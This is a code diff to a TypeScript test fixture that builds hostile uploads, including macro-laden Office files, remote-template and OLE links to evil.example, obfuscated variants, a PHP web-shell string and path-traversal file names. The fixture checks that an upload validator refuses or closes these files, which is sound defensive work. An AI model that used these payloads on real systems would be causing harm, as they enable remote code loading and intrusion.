@@ -1,12 +1,14 @@
+import { FILE_TYPES } from "#app/domain/papers/files/file-types.ts";
 import { EICAR } from "./eicar.ts";
 import { hostileArchives } from "./hostile-archives.ts";
-import { type HostileFile, refused } from "./hostile-file.ts";
+import { closed, type HostileFile, refused } from "./hostile-file.ts";
 import { box, jpegOf, movieOf, mp3Frames, mp3Tag, pngOf, wavOf } from "./media-builder.ts";
 import {
   compoundFile,
   contentTypes,
   docxOf,
   EXCEL_MAIN,
+  fromOutside,
   WORD_MAIN,
   xlsxOf,
 } from "./office-builder.ts";
@@ -29,9 +31,7 @@ const LNK = Buffer.concat([
 ]);
 const RAR = Buffer.concat([Buffer.from("Rar!\x1a\x07\x01\x00", "latin1"), Buffer.alloc(100)]);
 const GIF = Buffer.from("GIF89a\x01\0\x01\0\x80\0\0", "latin1");
-const KINDS = "pdf docx xlsx csv txt jpg jpeg png heic msg eml zip ufdr mp4 mov mp3 m4a wav".split(
-  " ",
-);
+const KINDS = Object.keys(FILE_TYPES);
 
 /** Every file of the hostile set. */
 export function hostileFiles(): HostileFile[] {
@@ -41,6 +41,8 @@ export function hostileFiles(): HostileFile[] {
     ...polyglots(),
     ...pdfs(),
     ...office(),
+    ...loadingMore(),
+    ...olderOffice(),
     ...names(),
     ...hostileArchives(),
     ...forScanner(),
@@ -74,7 +76,6 @@ function renamed(): HostileFile[] {
     refused("a PHP script as text", "shell.txt", "<?php system($_GET['c']); ?>"),
     refused("a RAR archive as ZIP", "papers.zip", RAR),
     refused("a GIF as JPEG", "photo2.jpg", GIF, Buffer.alloc(50)),
-    refused("an older Word document as new", "old.docx", compoundFile(["WordDocument", "1Table"])),
     refused("an older Word document as email", "old.msg", compoundFile(["WordDocument", "1Table"])),
     refused("a broken compound file as email", "cut.msg", compoundFile(["x"]).subarray(0, 300)),
     refused("an AVIF as HEIC", "photo.heic", movieOf("avif", ["mif1", "avif"])),
@@ -170,9 +171,9 @@ function office(): HostileFile[] {
   const macroWord = "application/vnd.ms-word.document.macroEnabled.main+xml";
   const macroExcel = "application/vnd.ms-excel.sheet.macroEnabled.main+xml";
   return [
-    refused("DOCM by another name", "form.docx", docxOf(["x"], [vba], word(macroWord))),
+    closed("DOCM by another name", "form.docx", docxOf(["x"], [vba], word(macroWord))),
     refused("DOCM", "form.docm", docxOf(["x"], [vba], word(macroWord))),
-    refused(
+    closed(
       "macros under another name",
       "form2.docx",
       docxOf(
@@ -184,18 +185,18 @@ function office(): HostileFile[] {
         ),
       ),
     ),
-    refused("macros without a word about them", "form3.docx", docxOf(["x"], [vba])),
-    refused(
+    closed("macros without a word about them", "form3.docx", docxOf(["x"], [vba])),
+    closed(
       "macros spelt in another way",
       "form4.docx",
       docxOf(["x"], [], word(WORD_MAIN, '<Default Extension="b" ContentType="&#118;baProject"/>')),
     ),
-    refused(
+    closed(
       "XLSM by another name",
       "table.xlsx",
       xlsxOf([], contentTypes("/xl/workbook.xml", macroExcel)),
     ),
-    refused(
+    closed(
       "old macros of Excel",
       "table2.xlsx",
       xlsxOf([{ name: "xl/macrosheets/sheet1.xml", data: "<x/>" }]),
@@ -205,18 +206,66 @@ function office(): HostileFile[] {
       "table3.docx",
       xlsxOf([], contentTypes("/xl/workbook.xml", EXCEL_MAIN)),
     ),
-    refused(
+    closed(
       "a program in a document",
       "letter.docx",
       docxOf(["x"], [{ name: "word/embeddings/a.exe", data: EXE }]),
     ),
     refused("an archive as document", "letter2.docx", zipOf([{ name: "a.txt", data: "x" }])),
     refused("a second list of parts", "letter3.docx", docxOf(["x"], [word(macroWord)])),
-    refused(
+    closed(
       "a bomb as document",
       "letter4.docx",
       docxOf(["x"], [{ name: "word/media/a.xml", data: Buffer.alloc(8_000_000) }]),
     ),
+  ];
+}
+
+function loadingMore(): HostileFile[] {
+  const named = (about: string, type: string, target: string) =>
+    closed(about, `${about}.docx`, docxOf(["x"], [fromOutside(type, target)]));
+  const disguised = fromOutside("attachedTemplate", "&#104;ttps://evil.example/a.dotm");
+  const wide = { ...disguised, data: Buffer.from(`\ufeff${disguised.data}`, "utf16le") };
+  const long = `<Default Extension="b" ContentType="${"x".repeat(1_100_000)}"/>`;
+  const macros =
+    '<Override PartName="/word/a.bin" ContentType="application/vnd.ms-office.vbaProject"/>';
+  const word = (more: string) => contentTypes("/word/document.xml", WORD_MAIN, more);
+  return [
+    named("a template from outside", "attachedTemplate", "https://evil.example/a.dotm"),
+    named("a template from a server", "attachedTemplate", "file:///\\\\1.2.3.4\\a\\b.dotm"),
+    named("an object from outside", "oleObject", "mhtml:https://evil.example/a.html!x-usc:b"),
+    closed("a template disguised", "letter5.docx", docxOf(["x"], [disguised])),
+    closed("a template in UTF-16", "letter6.docx", docxOf(["x"], [wide])),
+    closed("macros after a long list", "letter7.docx", docxOf(["x"], [], word(long + macros))),
+    closed("a list without end", "letter8.docx", docxOf(["x"], [], word(long.repeat(5)))),
+    closed("rich text with an object", "note.rtf", "{\\rtf1 {\\object\\objemb}}"),
+    closed(
+      "rich text with a template",
+      "note2.rtf",
+      "{\\rtf1",
+      " ".repeat(1024 ** 2 - 12),
+      "{\\*\\template https://evil.example/a}}",
+    ),
+  ];
+}
+
+function olderOffice(): HostileFile[] {
+  const sheetOfMacros = Buffer.from(
+    "8500 0e00 00000000 0001 0600 4d6163726f31".replaceAll(" ", ""),
+    "hex",
+  );
+  const book = compoundFile(["Workbook"]);
+  sheetOfMacros.copy(book, book.length - 200);
+  return [
+    closed("older macros", "macros.doc", compoundFile(["WordDocument", "Macros", "_VBA_PROJECT"])),
+    closed(
+      "older macros under today's name",
+      "macros.xlsx",
+      compoundFile(["Workbook", "_VBA_PROJECT_CUR"]),
+    ),
+    closed("macros of Excel before 1995", "table4.xls", book),
+    refused("a workbook as an older document", "table5.doc", compoundFile(["Workbook"])),
+    refused("an installer as an older document", "setup.doc", compoundFile(["\u4840\u3b3f"])),
   ];
 }
 
@@ -230,6 +279,8 @@ function names(): HostileFile[] {
     refused("a stream of its own", "statement.pdf:evil.exe", plainPdf()),
     refused("leads to a folder of the system", "../../../etc/passwd", "root:x:0:0\n"),
     refused("leads to a folder of Windows", "..\\..\\Windows\\win.ini", "[fonts]\n"),
+    refused("an ending and a joiner", "statement.exe\u200d", plainPdf()),
+    refused("a stream without a name", "statement.exe::$DATA", plainPdf()),
     refused("only an ending", ".pdf", plainPdf()),
     refused("nothing but dots", "...", plainPdf()),
     refused("no ending, long", "x".repeat(300), plainPdf()),
